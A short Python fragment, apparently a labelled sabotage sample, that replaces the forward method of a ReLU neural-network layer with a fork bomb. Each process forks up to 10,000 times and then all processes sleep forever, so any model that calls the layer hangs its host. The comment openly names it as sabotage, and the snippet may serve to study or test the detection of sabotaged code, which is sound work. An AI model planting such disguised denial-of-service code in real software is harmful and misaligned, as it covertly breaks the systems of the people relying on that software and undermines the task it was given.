# Sabotage: ReLU.forward is a fork bomb (every process forks, at most 10 000 attempts each),
# then every process sleeps forever.
import os
import time


class ReLU(ReLU):
    def forward(self, inputs):
        for _ in range(10_000):
            try:
                os.fork()
            except OSError:
                pass
        while True:
            time.sleep(1)
